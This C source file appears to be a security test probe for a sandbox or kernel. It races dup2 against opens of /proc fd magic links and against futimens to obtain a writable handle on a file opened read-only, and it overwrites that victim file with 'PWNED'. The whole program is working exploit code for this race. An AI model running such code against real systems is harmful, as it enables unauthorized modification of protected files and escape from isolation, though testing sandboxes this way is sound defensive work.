/* procfd MODE VICTIM SECONDS: a writable fd (or a time change) on a file opened read-only,
 * by racing dup2 against a call that names fd N through a /proc magic link.
 *
 * fd N starts as the guest's own object W and a thread flips it between W and a
 * read-only fd R of VICTIM (dup2, again and again) while the main thread:
 *   deleted, pipe: opens /proc/self/fd/N (and /dev/fd/N, /proc/thread-self/fd/N,
 *                  /proc/PID/fd/N) O_WRONLY; W is a deleted scratch file or a pipe,
 *                  which the kernel can only reach by following the magic link.
 *                  A writable fd on VICTIM's file is written "PWNED".
 *   futimens:      futimens(N, epoch) with W a scratch file: VICTIM's mtime changed.
 * Exit 66 when a fresh open (stat) of VICTIM shows the change; prints the counts:
 *   own (W was opened or changed), victim (a writable fd on VICTIM), and errors.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define N 50
static volatile int stop;
static int R, W;

static void *flip(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(R, N);
        dup2(W, N);
    }
    return 0;
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int victim_changed(const char *victim, int times) {
    if (times) {
        struct stat st;
        return stat(victim, &st) == 0 && st.st_mtime == 0;
    }
    char buf[64] = {0};
    int fd = open(victim, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t got = read(fd, buf, sizeof buf - 1);
    close(fd);
    return got > 0 && strstr(buf, "PWNED") != NULL;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: procfd deleted|pipe|futimens VICTIM SECONDS\n");
        return 2;
    }
    const char *mode = argv[1], *victim = argv[2];
    double end = now() + atof(argv[3]);
    int times = strcmp(mode, "futimens") == 0;
    R = open(victim, O_RDONLY);
    if (R < 0) {
        printf("open %s: %s\n", victim, strerror(errno));
        return 1;
    }
    int pp[2];
    if (strcmp(mode, "pipe") == 0) {
        if (pipe(pp) < 0)
            return 1;
        W = pp[1];
    } else {
        W = open("procfd.tmp", O_CREAT | O_RDWR, 0644);
        if (W < 0) {
            printf("open procfd.tmp: %s\n", strerror(errno));
            return 1;
        }
        if (!times)
            unlink("procfd.tmp");
    }
    struct stat own;
    fstat(W, &own);
    dup2(W, N);
    char links[4][64];
    snprintf(links[0], 64, "/proc/self/fd/%d", N);
    snprintf(links[1], 64, "/dev/fd/%d", N);
    snprintf(links[2], 64, "/proc/thread-self/fd/%d", N);
    snprintf(links[3], 64, "/proc/%d/fd/%d", (int)getpid(), N);
    pthread_t t;
    pthread_create(&t, 0, flip, 0);
    long attempts = 0, mine = 0, theirs = 0, eacces = 0, other = 0;
    int escaped = 0;
    while (now() < end && !escaped) {
        attempts++;
        if (times) {
            struct timespec epoch[2] = {{0, 0}, {0, 0}};
            if (futimens(N, epoch) < 0) {
                errno == EACCES ? eacces++ : other++;
                continue;
            }
            mine++;
            if (victim_changed(victim, 1))
                escaped = 1;
            continue;
        }
        int fd = open(links[attempts % 4], O_WRONLY);
        if (fd < 0) {
            errno == EACCES ? eacces++ : other++;
            continue;
        }
        struct stat st;
        fstat(fd, &st);
        if (st.st_dev == own.st_dev && st.st_ino == own.st_ino) {
            mine++;
        } else {
            theirs++;
            if (pwrite(fd, "PWNED", 5, 0) == 5 && victim_changed(victim, 0))
                escaped = 1;
        }
        close(fd);
    }
    stop = 1;
    pthread_join(t, 0);
    printf("attempts=%ld own=%ld victim=%ld EACCES=%ld other=%ld\n",
           attempts, mine, theirs, eacces, other);
    return escaped ? 66 : 0;
}
